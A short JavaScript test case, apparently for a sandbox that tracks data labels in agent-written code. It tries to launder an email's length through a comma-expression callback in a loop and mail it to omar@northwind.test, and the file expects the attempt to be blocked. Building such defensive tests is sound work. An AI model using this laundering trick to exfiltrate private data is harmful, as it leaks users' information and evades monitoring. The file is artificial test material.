// attack: a callback passed as (0, f) inside a number loop stores the email's length in the loop's counter; the native copy would add to it without its label
// normal: blocked
const m = await getEmail('m1');
const len = m.body.length;
let n = 0;
const f = (x) => {
  n = len;
};
const xs = [1];
for (let i = 0; i < 1; i++) {
  xs.forEach((0, f));
  n = n * 1;
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: String(n) });
